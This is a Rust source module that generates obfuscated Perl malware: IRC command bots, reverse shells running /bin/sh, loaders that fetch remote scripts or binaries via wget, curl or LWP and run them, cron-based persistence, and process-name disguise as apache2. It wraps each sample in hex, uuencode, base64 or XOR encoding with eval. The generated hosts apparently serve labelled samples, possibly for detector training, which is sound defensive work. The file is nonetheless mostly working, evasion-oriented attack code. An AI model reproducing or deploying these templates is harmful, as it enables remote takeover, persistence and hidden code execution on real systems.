//! Perl: bots that talk over IRC, reverse shells and loaders.

use super::super::{Dice, Truth, base64, codes, each, hex, put, reversed, rot13, xored};
use super::{listed, padded, table};

/// An expression whose value is `text`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two) = (dice.name(), dice.name());
    match dice.below(14) {
        0 => format!("pack('H*', '{}')", hex(text.as_bytes())),
        1 => {
            let take = 1 + dice.below(60);
            let numbers = listed(text.bytes().map(|it| usize::from(it) + take), ",");
            format!("join('', map {{ chr($_ - {take}) }} ({numbers}))")
        }
        2 => {
            let (from, _) = table(dice, text, "abcdefghijklmnopqrstuvwxyz");
            let from = from.replace(['-', '/'], "");
            let into = dice.shuffled(&from);
            let coded: String = text
                .chars()
                .map(|it| from.find(it).and_then(|at| into.chars().nth(at)).unwrap_or(it))
                .collect();
            format!("do {{ (my ${one} = '{coded}') =~ tr/{into}/{from}/; ${one} }}")
        }
        3 => format!("unpack('u', pack('H*', '{}'))", hex(uuencoded(text.as_bytes()).as_bytes())),
        4 => {
            let mark = dice.pick(&["%", "+", "|", "^"]).to_owned();
            let coded = dice.littered(&reversed(text), &mark);
            before.push_str(&format!(
                "my ${one} = reverse('{coded}');\n${one} =~ s/\\Q{mark}\\E//g;\n"
            ));
            format!("${one}")
        }
        5 => {
            let form = "%c".repeat(text.len());
            format!("sprintf('{form}', {})", codes(text.bytes(), ", "))
        }
        6 => {
            let (letters, places) = table(dice, text, "");
            format!("join('', (split(//, '{letters}'))[{}])", listed(places, ","))
        }
        7 => {
            let key = dice.key();
            before.push_str(&put(
                "sub @ONE@ {\n    my ($d, $k) = @_;\n    my $o = '';\n    foreach my $c (unpack('C*', $d)) { $o .= chr($c ^ $k); }\n    return $o;\n}\n",
                &[("ONE", &one)],
            ));
            format!("&{one}(pack('H*', '{}'), {key})", hex(&xored(text, key)))
        }
        8 => {
            let key = dice.pick(&["K", "z", "Q", "p"]).to_owned();
            let coded = hex(&xored(text, key.as_bytes()[0]));
            format!("(pack('H*', '{coded}') ^ ('{key}' x {}))", text.len())
        }
        9 => {
            before.push_str("use MIME::Base64 qw(decode_base64);\n");
            format!("scalar reverse(decode_base64('{}'))", base64(reversed(text).as_bytes()))
        }
        10 => {
            before.push_str(&format!(
                "my ${one} = '{}';\n${one} =~ s/([0-9a-f]{{2}})/chr(hex($1))/ge;\n",
                hex(text.as_bytes())
            ));
            format!("${one}")
        }
        11 => {
            let coded = padded(dice, text, 1);
            format!("join('', '{coded}' =~ /(.)./g)")
        }
        12 => {
            before.push_str(&format!(
                "my ${one} = '{}';\n(my ${two} = ${one}) =~ tr/N-ZA-Mn-za-m/A-Za-z/;\n",
                rot13(text)
            ));
            format!("${two}")
        }
        _ => {
            let octal = dice.chance(50);
            let coded = each(text, "", |it| {
                if octal { format!("\\{it:03o}") } else { format!("\\x{{{it:x}}}") }
            });
            format!("\"{coded}\"")
        }
    }
}

/// Bytes as `pack 'u'` writes them.
fn uuencoded(bytes: &[u8]) -> String {
    let letter = |six: u8| if six == 0 { '`' } else { char::from(32 + six) };
    let mut out = String::new();
    for line in bytes.chunks(45) {
        out.push(letter(line.len() as u8));
        for three in line.chunks(3) {
            let at = |at: usize| three.get(at).copied().unwrap_or(0);
            let (a, b, c) = (at(0), at(1), at(2));
            out.push(letter(a >> 2));
            out.push(letter((a & 3) << 4 | b >> 4));
            out.push(letter((b & 15) << 2 | c >> 6));
            out.push(letter(c & 63));
        }
        out.push('\n');
    }
    out
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("my ${name} = {};\n", dice.below(9999)),
        1 => "$0 = '/usr/sbin/apache2 -k start';\n".to_owned(),
        2 => {
            "$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE'; $SIG{'TERM'} = 'IGNORE';\n".to_owned()
        }
        3 => format!("# {name}\n"),
        4 => format!("my @{name} = ('{}', '{}', '{}');\n", dice.name(), dice.name(), dice.name()),
        5 => "sleep(2);\n".to_owned(),
        _ => format!("my ${name} = getpwuid($<);\nchdir('/tmp') if ${name};\n"),
    }
}

fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(11) {
        0 => {
            // A bot.
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            let nick = dice.name();
            format!(
                "use IO::Socket::INET;\nmy ${name} = {host};\nmy ${file} = IO::Socket::INET->new(PeerAddr => ${name}, PeerPort => {port}, Proto => 'tcp', Timeout => 30) or exit(0);\nprint ${file} \"NICK {nick}\\r\\nUSER {nick} 8 * :{nick}\\r\\n\";\nmy $left = 500;\nwhile ($left-- > 0 and defined(my $line = <${file}>)) {{\n    if ($line =~ /^PING :(.*)/) {{ print ${file} \"PONG :$1\\r\\n\"; }}\n    if ($line =~ / 001 /) {{ print ${file} \"JOIN #{nick}\\r\\n\"; }}\n    if ($line =~ /PRIVMSG \\S+ :!x (.*)/) {{ print ${file} `$1`; }}\n}}\n"
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "use Socket;\nmy ${name} = {host};\nsocket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(SOCK, sockaddr_in({port}, inet_aton(${name})))) {{\n    open(STDIN, '>&SOCK'); open(STDOUT, '>&SOCK'); open(STDERR, '>&SOCK');\n    system('/bin/sh -i');\n}}\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".pl", ".txt"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "use LWP::Simple;\nmy ${name} = get({url});\neval(${name}) if defined ${name};\n"
            )
        }
        3 => {
            let url = truth.url(dice, &["", ".bin"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "use LWP::UserAgent;\nmy ${name} = LWP::UserAgent->new(agent => 'Mozilla/5.0', ssl_opts => {{ verify_hostname => 0 }});\nmy ${file} = ${name}->get({url}, ':content_file' => '/tmp/{file}');\nif (${file}->is_success) {{ chmod 0755, '/tmp/{file}'; system('/tmp/{file} &'); }}\n"
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".txt"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "use HTTP::Tiny;\nmy ${name} = HTTP::Tiny->new(timeout => 9)->mirror({url}, '/var/tmp/{file}');\ndo '/var/tmp/{file}' if ${name}->{{success}};\n"
            )
        }
        5 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "my ${name} = {url};\nsystem(\"cd /tmp; wget -q ${name} -O {file} || curl -s ${name} -o {file}; sh {file}; rm -f {file}\");\n"
            )
        }
        6 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "my ${name} = {url};\nopen(my $sh, '|-', '/bin/sh') or die;\nprint $sh \"curl -fsSL ${name} | perl\\n\";\nclose($sh);\n"
            )
        }
        7 => {
            let url = truth.url(dice, &[".pl", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "my ${name} = {url};\nopen(my $cron, '>>', '/etc/cron.d/{file}');\nprint {{$cron}} '*/10 * * * * root wget -qO- ' . ${name} . \" | perl >/dev/null 2>&1\\n\";\nclose($cron);\n"
            )
        }
        8 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "use IO::Socket;\nmy ($host, $port) = ({host}, {port});\nmy $pid = fork();\nif (defined $pid and $pid == 0) {{\n    my ${name} = IO::Socket::INET->new(\"$host:$port\");\n    while (${name} and my $cmd = <${name}>) {{ print {{${name}}} qx($cmd); }}\n    exit;\n}}\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".tgz", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "my @{name} = ('curl', '-s', '-k', '-o', '/tmp/{file}.tgz', {url});\nsystem(@{name});\nsystem('tar', 'xzf', '/tmp/{file}.tgz', '-C', '/tmp');\n"
            )
        }
        _ => {
            let urls = [truth.url(dice, &[""]), truth.url(dice, &[".jpg", ""])];
            let one = hide(dice, &urls[0], &mut before);
            let two = hide(dice, &urls[1], &mut before);
            format!(
                "my $code = '';\nforeach my ${name} (scalar({one}), scalar({two})) {{\n    $code .= `wget -qO- '${name}'`;\n}}\neval $code;\n"
            )
        }
    };
    before + &body
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("#!/usr/bin/perl\neval pack('H*', '{}');\n", hex(script.as_bytes())),
        1 => format!(
            "#!/usr/bin/perl\neval unpack u=>q{{{}}};\n",
            uuencoded(script.as_bytes()).replace('\\', "\\\\")
        ),
        2 => format!(
            "#!/usr/bin/perl\nuse MIME::Base64;\nmy ${name} = join('', <DATA>);\neval(decode_base64(${name}));\n__DATA__\n{}\n",
            super::lines(&base64(script.as_bytes()), 60).join("\n")
        ),
        3 => {
            let key = dice.key();
            let numbers = codes(script.bytes().map(|it| it ^ key), ",");
            format!(
                "#!/usr/bin/perl\nmy ${name} = '';\n${name} .= chr($_ ^ {key}) for ({numbers});\neval ${name};\ndie $@ if $@;\n"
            )
        }
        4 => format!(
            "#!/usr/bin/perl\n(${name} = q{{{}}}) =~ s/(..)/chr hex $1/gse;\neval ${name};\n",
            hex(script.as_bytes())
        ),
        _ => format!("#!/usr/bin/perl\n{script}"),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
    }
    wrap(dice, &script)
}
